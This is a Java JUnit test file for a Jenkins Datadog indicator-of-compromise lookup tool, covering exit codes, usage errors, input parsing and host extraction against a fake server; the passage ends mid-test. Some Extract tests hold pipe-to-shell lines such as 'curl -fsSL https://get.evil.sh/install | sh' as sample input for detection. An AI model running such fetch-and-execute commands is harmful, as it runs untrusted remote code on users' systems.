package io.jenkins.plugins.datadog.ioc.cli;

import static io.jenkins.plugins.datadog.ioc.cli.FakeDatadog.API_KEY;
import static io.jenkins.plugins.datadog.ioc.cli.FakeDatadog.APP_KEY;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.jenkins.plugins.datadog.ioc.client.DatadogSite;
import io.jenkins.plugins.datadog.ioc.client.ProductInfo;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Proxy;
import java.net.ProxySelector;
import java.net.ServerSocket;
import java.net.SocketAddress;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import mockwebserver3.Dispatcher;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import mockwebserver3.RecordedRequest;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import picocli.CommandLine;

/** The command in-process: exit codes, messages, inputs, formats, policy options and keys. */
class IocLookupCommandTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Pattern STACK_FRAME = Pattern.compile("(?m)^\\s*at [\\w.$/]+\\(");

    @TempDir
    Path dir;

    private FakeDatadog datadog;

    @BeforeEach
    void startDatadog() throws IOException {
        datadog = new FakeDatadog();
    }

    @AfterEach
    void stopDatadog() {
        datadog.close();
    }

    /** What one run printed and returned. */
    record Run(int exit, String out, String err, Duration took) {
        JsonNode json() throws IOException {
            return JSON.readTree(out);
        }

        @Override
        public String toString() {
            return "exit " + exit + " after " + took.toMillis() + " ms\n--- stdout\n" + out + "--- stderr\n" + err;
        }
    }

    static Map<String, String> keys() {
        Map<String, String> env = new HashMap<>();
        env.put("DD_API_KEY", API_KEY);
        env.put("DD_APP_KEY", APP_KEY);
        return env;
    }

    /** Runs the command; whatever it did, it must print neither key nor a stack trace. */
    static Run run(Map<String, String> env, String stdin, String... args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        CommandLine command = IocLookupCommand.commandLine(env, new ByteArrayInputStream(stdin.getBytes(UTF_8)));
        command.setOut(new PrintWriter(out, true));
        command.setErr(new PrintWriter(err, true));
        long start = System.nanoTime();
        int exit = command.execute(args);
        Run run = new Run(exit, out.toString(), err.toString(), Duration.ofNanos(System.nanoTime() - start));
        assertThat(run.out() + run.err()).as("output of %s", run)
                .doesNotContain(API_KEY)
                .doesNotContain(APP_KEY)
                .doesNotContainPattern(STACK_FRAME);
        return run;
    }

    /** Runs against the fake Datadog with both keys in the environment. */
    private Run lookup(String... args) {
        return lookupWithStdin("", args);
    }

    private Run lookupWithStdin(String stdin, String... args) {
        List<String> all = new ArrayList<>(List.of("--base-url", datadog.baseUrl()));
        all.addAll(List.of(args));
        return run(keys(), stdin, all.toArray(String[]::new));
    }

    private void assertUsageError(Run run, String... messageParts) {
        assertThat(run.exit()).as("%s", run).isEqualTo(IocLookupCommand.EXIT_USAGE);
        assertThat(run.err()).as("%s", run)
                .doesNotContain("Exception")
                .doesNotContain("at io.");
        String firstLine = run.err().lines().findFirst().orElse("");
        assertThat(firstLine).as("the message comes first, before any usage help").contains(messageParts);
        assertThat(run.out()).as("nothing on stdout, where a report would go").isEmpty();
        assertThat(datadog.requestCount()).as("a usage error is found before any lookup").isZero();
    }

    private static List<String> indicatorsOf(JsonNode report) {
        return StreamSupport.stream(report.path("results").spliterator(), false)
                .map(r -> r.path("indicator").asText())
                .toList();
    }

    private static JsonNode resultFor(JsonNode report, String indicator) {
        for (JsonNode result : report.path("results")) {
            if (result.path("indicator").asText().equals(indicator)) {
                return result;
            }
        }
        throw new AssertionError("no result for " + indicator + " in " + report);
    }

    private Path write(String name, String content) throws IOException {
        Path file = dir.resolve(name);
        Files.createDirectories(file.getParent());
        Files.writeString(file, content, UTF_8);
        return file;
    }

    @Nested
    class ExitCodes {
        @ParameterizedTest(name = "score {0} with thresholds 50/80 exits {1}")
        @CsvSource({"0, 0", "49.9, 0", "50, 3", "79.5, 3", "80, 1", "100, 1"})
        void scoreAgainstThresholds(double score, int exit) {
            datadog.score("203.0.113.66", score);

            Run run = lookup("--unstable-threshold", "50", "--fail-threshold", "80", "203.0.113.66");

            assertThat(run.exit()).as("%s", run).isEqualTo(exit);
            assertThat(datadog.lookupsOf("203.0.113.66")).isEqualTo(1);
        }

        @Test
        void withoutThresholdsEvenTheWorstScorePasses() {
            datadog.score("evil.example.net", 100);

            Run run = lookup("evil.example.net");

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(run.out()).contains("PASS").contains("evil.example.net").contains("score 100")
                    .containsOnlyOnce("Warning: No threshold is set and no rule can fail the run");
            assertThat(run.err()).as("the text report on stdout says it already").isEmpty();
        }

        @Test
        void theWarningGoesToStderrWhenStdoutIsAMachineReadableReport() throws IOException {
            datadog.score("evil.example.net", 100);

            Run run = lookup("--format", "json", "evil.example.net");

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(run.err()).startsWith("ioc-lookup: Warning: No threshold is set");
            assertThat(run.json().path("notices").get(0).path("kind").asText()).isEqualTo("no_threshold");
            assertThat(lookup("--format", "json", "--unstable-threshold", "50", "calm.example").err())
                    .as("a threshold is set").isEmpty();
        }

        @Test
        void theWorstIndicatorDecides() {
            datadog.score("good.com", 5).score("meh.com", 60).score("bad.com", 95);

            assertThat(lookup("--unstable-threshold", "50", "--fail-threshold", "90", "good.com", "meh.com").exit())
                    .isEqualTo(3);
            assertThat(lookup("--unstable-threshold", "50", "--fail-threshold", "90", "good.com", "meh.com", "bad.com")
                    .exit()).isEqualTo(1);
            assertThat(lookup("--unstable-threshold", "50", "--fail-threshold", "90", "good.com").exit()).isZero();
        }

        @Test
        void aFailThresholdAloneFails() {
            datadog.score("bad.com", 70);

            assertThat(lookup("--fail-threshold", "70", "bad.com").exit()).isEqualTo(1);
            assertThat(lookup("--fail-threshold", "71", "bad.com").exit()).isZero();
        }

        @Test
        void anIndicatorThatCannotBeLookedUpIsAnErrorWithoutARequest() throws IOException {
            String tooLong = "a".repeat(2049) + ".com";

            Run run = lookup("--format", "json", tooLong, "fine.com");

            assertThat(run.exit()).as("%s", run).isEqualTo(1);
            // the report keeps the first 200 characters, and says so
            JsonNode result = resultFor(run.json(), "a".repeat(200) + "…");
            assertThat(result.path("status").asText()).isEqualTo("ERROR");
            assertThat(result.path("error").asText()).contains("2048").endsWith("Shown are its first 200 of 2053 characters.");
            assertThat(datadog.lookedUp()).containsExactly("fine.com");
            assertThat(lookup("--on-error", "pass", tooLong).exit()).isZero();
        }

        @Test
        void notFoundPassesByDefault() {
            Run run = lookup("unknown.com");

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(run.out()).contains("not found");
            assertThat(datadog.lookupsOf("unknown.com")).isEqualTo(1);
        }

        @ParameterizedTest
        @CsvSource({"failure, 1", "FAIL, 1", "Unstable, 3", "pass, 0"})
        void onNotFound(String verdict, int exit) {
            Run run = lookup("--on-not-found", verdict, "unknown.com");

            assertThat(run.exit()).as("%s", run).isEqualTo(exit);
        }

        @Test
        void aLookupThatKeepsFailingFailsByDefault() {
            datadog.otherwise(i -> FakeDatadog.status(500, "{\"errors\":[\"Internal Server Error\"]}"));

            Run run = lookup("--timeout", "2", "evil.com");

            assertThat(run.exit()).as("%s", run).isEqualTo(1);
            assertThat(run.out()).contains("error").contains("HTTP 500");
            assertThat(run.took()).isLessThan(Duration.ofSeconds(20));
        }

        @ParameterizedTest
        @CsvSource({"pass, 0", "unstable, 3", "failure, 1"})
        void onErrorWithAServerThatAlwaysFails(String verdict, int exit) throws IOException {
            datadog.otherwise(i -> FakeDatadog.status(500, "{\"errors\":[\"Internal Server Error\"]}"));

            Run run = lookup("--timeout", "2", "--on-error", verdict, "--format", "json", "evil.com");

            assertThat(run.exit()).as("%s", run).isEqualTo(exit);
            assertThat(run.took()).as("the 2 s timeout bounds the retries").isLessThan(Duration.ofSeconds(20));
            JsonNode result = resultFor(run.json(), "evil.com");
            assertThat(result.path("status").asText()).isEqualTo("ERROR");
            assertThat(result.path("error").asText()).contains("HTTP 500");
            assertThat(datadog.lookupsOf("evil.com")).isGreaterThanOrEqualTo(1);
        }

        @Test
        void anUnreachableDatadogEndsTheRunSoonWithEveryIndicatorReported() throws IOException {
            int port;
            try (ServerSocket socket = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
                port = socket.getLocalPort(); // and nothing listens there once it is closed
            }
            List<String> indicators = IntStream.rangeClosed(1, 30).mapToObj(i -> "host-" + i + ".example").toList();
            List<String> args = new ArrayList<>(List.of("--base-url", "http://127.0.0.1:" + port, "--concurrency", "2",
                    "--format", "json"));
            args.addAll(indicators);

            // With the default retries (5 attempts, backoff from 0.5 s) each indicator would take 4 to 8 s on its own:
            // over a minute for 30 of them, 2 at a time. The first that gives up ends the others.
            Run run = run(keys(), "", args.toArray(String[]::new));

            assertThat(run.exit()).as("%s", run).isEqualTo(IocLookupCommand.EXIT_FAILURE);
            assertThat(run.took()).as("%s", run).isLessThan(Duration.ofSeconds(30));
            JsonNode report = run.json();
            assertThat(indicatorsOf(report)).containsExactlyElementsOf(indicators);
            assertThat(report.path("summary").path("error").asInt()).isEqualTo(30);
            int notLookedUp = 0;
            String refused = "Could not connect to 127.0.0.1:" + port + ": Connection refused";
            for (JsonNode result : report.path("results")) {
                assertThat(result.path("status").asText()).isEqualTo("ERROR");
                String error = result.path("error").asText();
                if (error.startsWith("Not looked up: ")) {
                    assertThat(error).isEqualTo("Not looked up: the run stopped as Datadog is unreachable (see the stop cause)");
                    assertThat(result.path("attempts").asInt()).isZero();
                    notLookedUp++;
                } else {
                    assertThat(error).matches("(Not retried: the run stopped as Datadog is unreachable .*|" + refused + ".*)");
                }
            }
            assertThat(notLookedUp).as("all but the lookups under way when the first gave up").isGreaterThanOrEqualTo(28);
            // The cause said once, with the count, in the report and on stderr.
            String stop = report.path("notices").get(0).path("text").asText();
            assertThat(stop).startsWith("The run stopped early: Datadog is unreachable: " + refused)
                    .endsWith(notLookedUp + " of 30 indicators were not looked up.");
            assertThat(run.err()).containsOnlyOnce(refused).contains("ioc-lookup: Stopped: " + stop);
        }
    }

    @Nested
    class UsageErrors {
        @Test
        void noIndicator() {
            assertUsageError(lookup(), "No indicator given");
        }

        @Test
        void onlyBlankLinesAndCommentsInTheFile() throws IOException {
            Path file = write("empty.txt", "\n# nothing here\n   \n");

            assertUsageError(lookup("--file", file.toString()), "No indicator given");
        }

        @Test
        void missingApiKey() {
            Map<String, String> env = keys();
            env.remove("DD_API_KEY");

            Run run = run(env, "", "--base-url", datadog.baseUrl(), "evil.com");

            assertUsageError(run, "No Datadog API key", "DD_API_KEY", "--api-key-file");
        }

        @Test
        void blankApiKeyCountsAsMissing() {
            Map<String, String> env = keys();
            env.put("DD_API_KEY", "   ");

            assertUsageError(run(env, "", "--base-url", datadog.baseUrl(), "evil.com"), "No Datadog API key");
        }

        @Test
        void missingAppKey() {
            Map<String, String> env = keys();
            env.remove("DD_APP_KEY");

            Run run = run(env, "", "--base-url", datadog.baseUrl(), "evil.com");

            assertUsageError(run, "No Datadog application key", "DD_APP_KEY", "--app-key-file");
        }

        @Test
        void unknownSiteListsTheValidOnes() {
            Run run = run(keys(), "", "--site", "datadoghq.nowhere", "evil.com");

            assertUsageError(run, "Unknown Datadog site 'datadoghq.nowhere'");
            for (DatadogSite site : DatadogSite.values()) {
                assertThat(run.err()).contains(site.domain());
            }
        }

        @Test
        void unknownSiteFromTheEnvironment() {
            Map<String, String> env = keys();
            env.put("DD_SITE", "datadoghq.nowhere");

            assertUsageError(run(env, "", "evil.com"), "Unknown Datadog site 'datadoghq.nowhere'", "datadoghq.eu");
        }

        @Test
        void theSiteOptionIsCheckedBeforeDdSite() {
            Map<String, String> env = keys();
            env.put("DD_SITE", "datadoghq.eu");

            assertUsageError(run(env, "", "--site", "bogus.site", "evil.com"), "Unknown Datadog site 'bogus.site'");
        }

        @Test
        void unstableThresholdAboveFailThreshold() {
            assertUsageError(lookup("--unstable-threshold", "90", "--fail-threshold", "80", "evil.com"),
                    "unstable threshold (90)", "failure threshold (80)");
        }

        @ParameterizedTest
        @ValueSource(strings = {"--fail-threshold", "--unstable-threshold"})
        void thresholdOutOfRange(String option) {
            assertUsageError(lookup(option, "150", "evil.com"), "from 0 to 100", "150");
        }

        @Test
        void negativeThreshold() {
            assertUsageError(lookup("--fail-threshold=-1", "evil.com"), "from 0 to 100");
        }

        @Test
        void thresholdThatIsNoNumber() {
            Run run = lookup("--fail-threshold", "high", "evil.com");

            assertUsageError(run, "--fail-threshold", "high");
        }

        @ParameterizedTest
        @ValueSource(strings = {"--on-error", "--on-not-found", "--on-malicious-source", "--on-category", "--on-signal",
                "--on-critical-asset"})
        void unknownVerdict(String option) {
            assertUsageError(lookup(option, "bogus", "evil.com"), option, "pass, unstable, failure", "bogus");
        }

        @Test
        void unknownOption() {
            assertUsageError(lookup("--bogus", "evil.com"), "Unknown option", "--bogus");
        }

        @Test
        void unknownFormat() {
            assertUsageError(lookup("--format", "xml", "evil.com"), "--format", "xml");
        }

        @Test
        void nonexistentFile() {
            Path missing = dir.resolve("missing.txt");

            assertUsageError(lookup("evil.com", "--file", missing.toString()), "--file", "no such file",
                    missing.toString());
        }

        @Test
        void fileThatIsADirectory() {
            assertUsageError(lookup("--file", dir.toString()), "--file", "cannot read");
        }

        @ParameterizedTest
        @ValueSource(strings = {"0", "-1", "65"})
        void concurrencyOutOfRange(String concurrency) {
            assertUsageError(lookup("--concurrency", concurrency, "evil.com"), "concurrency", "between 1 and 64",
                    "not " + concurrency);
        }

        @ParameterizedTest
        @ValueSource(strings = {"0", "-5", "3601"})
        void timeoutOutOfRange(String timeout) {
            assertUsageError(lookup("--timeout", timeout, "evil.com"), "timeout");
        }

        @Test
        void baseUrlThatIsNoUrl() {
            assertUsageError(run(keys(), "", "--base-url", "not a url", "evil.com"), "base URL", "not a url");
        }

        @Test
        void baseUrlWithCredentials() {
            Run run = run(keys(), "", "--base-url", "http://user:password@127.0.0.1:1/", "evil.com");

            assertUsageError(run, "user name or password");
            assertThat(run.err()).doesNotContain("password@");
        }

        @Test
        void includePrivateWithoutExtract() {
            assertUsageError(lookup("--include-private", "evil.com"), "--include-private", "--extract");
        }

        @Test
        void emptyCategory() {
            assertUsageError(lookup("--category", " ", "evil.com"), "category");
        }
    }

    @Nested
    class Input {
        @Test
        void fileWithBlankLinesAndComments() throws IOException {
            Path file = write("iocs.txt", "# indicators from the incident\n\n  198.51.100.23  \n\t\n"
                    + "   # indented comment\nevil.com\r\nMozilla/5.0 (evil bot)\n");
            datadog.score("evil.com", 10);

            Run run = lookup("--format", "json", "--file", file.toString());

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(indicatorsOf(run.json())).containsExactly("198.51.100.23", "evil.com", "Mozilla/5.0 (evil bot)");
            assertThat(datadog.lookedUp()).containsExactlyInAnyOrder("198.51.100.23", "evil.com", "Mozilla/5.0 (evil bot)");
        }

        @Test
        void shortFileOption() throws IOException {
            Path file = write("iocs.txt", "evil.com\n");

            Run run = lookup("-f", file.toString());

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(datadog.lookedUp()).containsExactly("evil.com");
        }

        @Test
        void dashReadsStdin() throws IOException {
            datadog.score("evil.com", 95);

            Run run = lookupWithStdin("# from a pipe\nevil.com\n\n192.0.2.1\n", "--fail-threshold", "90",
                    "--format", "json", "--file", "-");

            assertThat(run.exit()).as("%s", run).isEqualTo(1);
            assertThat(indicatorsOf(run.json())).containsExactly("evil.com", "192.0.2.1");
        }

        @Test
        void stdinIsOnlyReadWhenAskedFor() {
            Run run = lookupWithStdin("not-looked-up.com\n", "evil.com");

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(datadog.lookedUp()).containsExactly("evil.com");
        }

        @Test
        void duplicatesAcrossArgumentsFilesAndStdinAreLookedUpAndReportedOnce() throws IOException {
            Path first = write("first.txt", "b.com\na.com\nc.com\n  a.com  \n");
            Path second = write("second.txt", "c.com\nd.com\nb.com\n");
            datadog.score("a.com", 1).score("b.com", 2).score("c.com", 3).score("d.com", 4).score("e.com", 5);

            Run run = lookupWithStdin("e.com\na.com\n", "--format", "json", "a.com", "b.com", "a.com",
                    "--file", first.toString(), "--file", second.toString(), "--file", "-",
                    "--file", first.toString());

            assertThat(run.exit()).as("%s", run).isZero();
            JsonNode report = run.json();
            assertThat(indicatorsOf(report)).containsExactly("a.com", "b.com", "c.com", "d.com", "e.com");
            assertThat(report.path("summary").path("indicators").asInt()).isEqualTo(5);
            for (String indicator : List.of("a.com", "b.com", "c.com", "d.com", "e.com")) {
                assertThat(datadog.lookupsOf(indicator)).as(indicator).isEqualTo(1);
            }
            assertThat(datadog.requestCount()).isEqualTo(5);
        }

        @Test
        void duplicatesAreReportedOnceInText() {
            datadog.score("a.com", 1).score("b.com", 2);

            Run run = lookup("--concurrency", "1", "--fail-threshold", "80", "b.com", "a.com", "b.com", " a.com");

            assertThat(run.exit()).as("%s", run).isZero();
            List<String> lines = run.out().lines().toList();
            assertThat(lines).hasSize(3);
            assertThat(lines.get(0)).contains("b.com").doesNotContain("a.com");
            assertThat(lines.get(1)).contains("a.com");
            assertThat(lines.get(2)).startsWith("Datadog IoC lookup: PASS (2 indicators");
            assertThat(datadog.requestCount()).isEqualTo(2);
        }

        @Test
        void resultsKeepTheInputOrderWhateverOrderTheAnswersCameIn() throws IOException {
            datadog.delay(30);
            List<String> indicators = IntStream.range(0, 20).mapToObj(i -> "host" + i + ".evil.com").toList();
            List<String> args = new ArrayList<>(List.of("--format", "json", "--concurrency", "8"));
            args.addAll(indicators);

            Run run = lookup(args.toArray(String[]::new));

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(indicatorsOf(run.json())).containsExactlyElementsOf(indicators);
            assertThat(datadog.maxInFlight()).isLessThanOrEqualTo(8);
        }

        @Test
        void progressOnStderrWhenAskedFor() {
            Run run = lookup("--progress", "a.com", "b.com", "c.com");

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(run.err()).contains("ioc-lookup: 3/3 indicators looked up");
            assertThat(run.out()).doesNotContain("looked up");
        }

        @Test
        void noProgressWhenNotATerminal() {
            Run run = lookup("a.com", "b.com", "c.com");

            assertThat(run.err()).isEmpty();
            assertThat(lookup("--no-progress", "a.com", "b.com").err()).isEmpty();
        }

        @Test
        void lookupOptionsAreSentAsQueryParameters() {
            Run run = lookup("--ocsf", "--include-triage-history", "--triage-history-limit", "5",
                    "--triage-history-offset", "2", "evil.com");

            assertThat(run.exit()).as("%s", run).isZero();
            RecordedRequest request = datadog.requests().get(0);
            assertThat(request.getUrl().queryParameter("indicator")).isEqualTo("evil.com");
            assertThat(request.getUrl().queryParameter("ocsf")).isEqualTo("true");
            assertThat(request.getUrl().queryParameter("include_triage_history")).isEqualTo("true");
            assertThat(request.getUrl().queryParameter("triage_history_limit")).isEqualTo("5");
            assertThat(request.getUrl().queryParameter("triage_history_offset")).isEqualTo("2");
        }

        @Test
        void noLookupOptionsUnlessAskedFor() {
            lookup("evil.com");

            assertThat(datadog.requests().get(0).getUrl().queryParameterNames()).containsExactly("indicator");
        }
    }

    @Nested
    class Extract {
        private static final String CONFIG = String.join("\n",
                "# deployment values for the payments service",
                "image: registry.evil-cdn.net/payments:1.4.2",
                "webhook: https://hooks.bad-domain.org/v1/notify?team=payments",
                "upstream: 185.220.101.4",
                "database:",
                "  host: 10.0.0.5",
                "  port: 5432",
                "cache: http://127.0.0.1:6379/0",
                "docs: https://example.com/payments",
                "metrics: prometheus.monitoring.svc.cluster.local:9090",
                "overrides: values.yaml",
                "upstream_again: 185.220.101.4",
                "");
        private static final List<String> PUBLIC = List.of(
                "registry.evil-cdn.net", "hooks.bad-domain.org", "185.220.101.4");
        private static final List<String> PRIVATE = List.of(
                "10.0.0.5", "127.0.0.1", "example.com", "prometheus.monitoring.svc.cluster.local");

        @Test
        void looksUpOnlyPublicIndicatorsAndCountsTheSkipped() throws IOException {
            Path file = write("values.yaml", CONFIG);
            datadog.score("185.220.101.4", 90);

            Run run = lookup("--extract", "--fail-threshold", "80", "--format", "json", "--file", file.toString());

            assertThat(run.exit()).as("%s", run).isEqualTo(1);
            assertThat(datadog.lookedUp()).containsExactlyInAnyOrderElementsOf(PUBLIC);
            JsonNode report = run.json();
            assertThat(indicatorsOf(report)).containsExactlyInAnyOrderElementsOf(PUBLIC);
            assertThat(report.path("summary").path("skipped").asInt()).as("skipped: %s", PRIVATE)
                    .isEqualTo(PRIVATE.size());
            assertThat(report.path("summary").path("indicators").asInt()).isEqualTo(PUBLIC.size());
        }

        @Test
        void textReportMentionsTheSkipped() throws IOException {
            Path file = write("values.yaml", CONFIG);

            Run run = lookup("--extract", "--file", file.toString());

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(run.out()).contains(PRIVATE.size() + " skipped as private or local");
        }

        @Test
        void includePrivateKeepsThem() throws IOException {
            Path file = write("values.yaml", CONFIG);

            Run run = lookup("--extract", "--include-private", "--format", "json", "--file", file.toString());

            assertThat(run.exit()).as("%s", run).isZero();
            List<String> all = new ArrayList<>(PUBLIC);
            all.addAll(PRIVATE);
            assertThat(datadog.lookedUp()).containsExactlyInAnyOrderElementsOf(all);
            assertThat(run.json().path("summary").path("skipped").asInt()).isZero();
        }

        /**
         * Core bug: {@code IndicatorExtractor} only accepts host names with a dot, so the host of
         * {@code http://localhost:6379} is dropped silently: neither counted as skipped nor kept with
         * --include-private.
         */
        @Test
        void localhostInAUrlIsSkippedAndCounted() throws IOException {
            Path file = write("values.yaml", "cache: http://localhost:6379/0\nupstream: 185.220.101.4\n");

            Run run = lookup("--extract", "--format", "json", "--file", file.toString());
            assertThat(datadog.lookedUp()).containsExactly("185.220.101.4");
            assertThat(run.json().path("summary").path("skipped").asInt()).isEqualTo(1);

            lookup("--extract", "--include-private", "--file", file.toString());
            assertThat(datadog.lookupsOf("localhost")).isEqualTo(1);
        }

        /**
         * Core bug: {@code IndicatorExtractor} drops URL hosts whose top-level domain looks like a file
         * extension ({@code .sh}, {@code .rs}, {@code .py}, {@code .so}, {@code .md} are real TLDs), so
         * {@code curl https://get.evil.sh/install | sh} is never looked up.
         */
        @Test
        void urlHostsUnderTldsThatLookLikeFileExtensions() throws IOException {
            Run run = lookupWithStdin("curl -fsSL https://get.evil.sh/install | sh\n"
                    + "curl https://sh.rustup.rs | sh\n", "--extract", "--format", "json", "--file", "-");

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(indicatorsOf(run.json())).containsExactly("get.evil.sh", "sh.rustup.rs");
        }

        @Test
        void extractFromStdinWithArgumentsToo() throws IOException {
            Run run = lookupWithStdin("curl -fsSL https://get.evil-install.net/setup | sh\n", "--extract",
                    "--format", "json", "first.com", "--file", "-");

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(indicatorsOf(run.json())).containsExactly("first.com", "get.evil-install.net");
        }

        @Test
        void argumentsAreNeverFilteredAsPrivate() throws IOException {
            Run run = lookup("--extract", "--format", "json", "10.0.0.5");

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(datadog.lookedUp()).containsExactly("10.0.0.5");
        }

        @Test
        void allPrivatePassesWithANoteAndWritesEveryReport() throws IOException {
            Path file = write("local.yaml", "db: 10.0.0.5\ncache: http://127.0.0.1:6379\n");
            Path reports = dir.resolve("reports");

            Run run = lookup("--extract", "--fail-threshold", "80", "--file", file.toString(),
                    "-o", reports.resolve("r.json").toString(), "-o", reports.resolve("r.sarif").toString(),
                    "-o", reports.resolve("r.xml").toString(), "-o", reports.resolve("r.md").toString());

            assertThat(run.exit()).as("%s", run).isEqualTo(IocLookupCommand.EXIT_PASS);
            assertThat(run.out()).contains("Datadog IoC lookup: PASS (0 indicators")
                    .contains("Note: Nothing to check: all 2 indicators found were private, reserved or local");
            assertThat(datadog.requestCount()).isZero();
            JsonNode json = JSON.readTree(Files.readString(reports.resolve("r.json")));
            assertThat(json.path("verdict").asText()).isEqualTo("PASS");
            assertThat(json.path("results")).isEmpty();
            assertThat(json.path("summary").path("skipped").asInt()).isEqualTo(2);
            assertThat(json.path("notices").get(0).path("kind").asText()).isEqualTo("nothing_to_check");
            assertThat(JSON.readTree(Files.readString(reports.resolve("r.sarif"))).path("runs").get(0).path("results")).isEmpty();
            assertThat(Files.readString(reports.resolve("r.xml"))).contains("tests=\"0\"");
            assertThat(Files.readString(reports.resolve("r.md"))).contains("Nothing to check");
        }

        @Test
        void anExtractionOfAnEmptyFilePassesToo() throws IOException {
            Path file = write("empty.yaml", "# nothing here\n");

            Run run = lookup("--extract", "--file", file.toString());

            assertThat(run.exit()).as("%s", run).isEqualTo(IocLookupCommand.EXIT_PASS);
            assertThat(run.out()).contains("Note: Nothing to check: no indicator was found");
        }

        @Test
        void extractWithoutAFileIsStillAUsageError() {
            assertUsageError(lookup("--extract"), "No indicator given");
        }

        @Test
        void withoutExtractTheFileIsReadLineByLine() throws IOException {
            Path file = write("values.yaml", "upstream: 185.220.101.4\n");

            Run run = lookup("--file", file.toString());

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(datadog.lookedUp()).containsExactly("upstream: 185.220.101.4");
        }
    }

    @Nested
    class Rules {
        @Test
        void maliciousSourceFailsALowScore() {
            datadog.found("evil.com", 5, List.of("abuse.ch"), List.of());

            assertThat(lookup("--fail-threshold", "80", "evil.com").exit()).isZero();
            Run run = lookup("--fail-threshold", "80", "--on-malicious-source", "failure", "evil.com");
            assertThat(run.exit()).as("%s", run).isEqualTo(1);
            assertThat(run.out()).contains("abuse.ch");
            assertThat(lookup("--on-malicious-source", "unstable", "evil.com").exit()).isEqualTo(3);
        }

        @Test
        void maliciousSourceRuleIgnoresCleanIndicators() {
            datadog.found("clean.com", 5, List.of(), List.of("benign"));

            assertThat(lookup("--on-malicious-source", "failure", "clean.com").exit()).isZero();
        }

        @Test
        void maliciousSourceRuleNeverLowersTheScoreVerdict() {
            datadog.found("evil.com", 95, List.of("abuse.ch"), List.of());

            assertThat(lookup("--fail-threshold", "90", "--on-malicious-source", "unstable", "evil.com").exit())
                    .isEqualTo(1);
        }

        @Test
        void categoryFailsALowScore() {
            datadog.found("bot.com", 3, List.of(), List.of("Botnet", "scanner"));

            Run run = lookup("--fail-threshold", "80", "--category", "botnet", "bot.com");

            assertThat(run.exit()).as("%s", run).isEqualTo(1);
            assertThat(run.out()).contains("Botnet");
            assertThat(lookup("--category", "malware", "bot.com").exit()).isZero();
            assertThat(lookup("--category", "malware", "--category", "SCANNER", "bot.com").exit()).isEqualTo(1);
            assertThat(lookup("--category", "botnet", "--on-category", "unstable", "bot.com").exit()).isEqualTo(3);
        }

        /** Datadog matched the indicator to 3 high and 2 low signals in the organization, and to a critical asset. */
        private void seenInTheOrganization() {
            datadog.found("seen.com", 12, "{\"signal_matches\": 5, \"signal_severity\": [{\"severity\": \"high\", "
                    + "\"count\": 3}, {\"severity\": \"low\", \"count\": 2}], \"critical_assets\": [\"payments-db\"]}");
        }

        @Test
        void signalsInTheOrganizationFailALowScoreAndTheReasonSaysWhatMatched() {
            seenInTheOrganization();

            assertThat(lookup("--fail-threshold", "80", "seen.com").exit()).isZero();
            Run run = lookup("--fail-threshold", "80", "--on-signal", "failure", "seen.com");
            assertThat(run.exit()).as("%s", run).isEqualTo(1);
            assertThat(run.out()).contains("3 high-severity signals and 2 low-severity signals in your organization");
            Run high = lookup("--on-signal", "unstable", "--min-signal-severity", "HIGH", "seen.com");
            assertThat(high.exit()).as("%s", high).isEqualTo(3);
            assertThat(high.out()).contains("3 high-severity signals in your organization").doesNotContain("low-severity");
            assertThat(lookup("--on-signal", "failure", "--min-signal-severity", "critical", "seen.com").exit()).isZero();
        }

        @Test
        void criticalAssetsAreCountedInTheReason() {
            seenInTheOrganization();

            Run run = lookup("--on-critical-asset", "unstable", "seen.com");
            assertThat(run.exit()).as("%s", run).isEqualTo(3);
            assertThat(run.out()).contains("touches 1 critical asset in your organization");
        }

        @Test
        void anUnknownSeverityIsAUsageError() {
            assertUsageError(lookup("--on-signal", "failure", "--min-signal-severity", "urgent", "evil.com"),
                    "minimum signal severity", "info, low, medium, high, critical", "urgent");
        }

        @Test
        void theScoreIsExplainedUnderItsResult() throws IOException {
            datadog.found("evil.com", 85, "{\"m_sources\": \"RAISE_SCORE\", \"m_persistence\": \"NO_EFFECT\", "
                    + "\"triage_state\": \"true_positive\", \"triaged_at\": \"2026-11-02T08:00:00Z\", \"triaged_by\": \"alice\"}");

            Run run = lookup("--fail-threshold", "80", "evil.com");
            assertThat(run.out()).contains("score raised by sources; unaffected by persistence; triaged as true_positive on 2026-11-02")
                    .doesNotContain("alice");
            JsonNode json = lookup("--format", "json", "evil.com").json().path("results").get(0);
            assertThat(json.path("score_factors").get(0).path("text").asText())
                    .isEqualTo("threat-intelligence sources: raises the score");
            assertThat(json.path("triage").path("state").asText()).isEqualTo("true_positive");
        }

        @Test
        void rulesDoNotApplyToNotFound() {
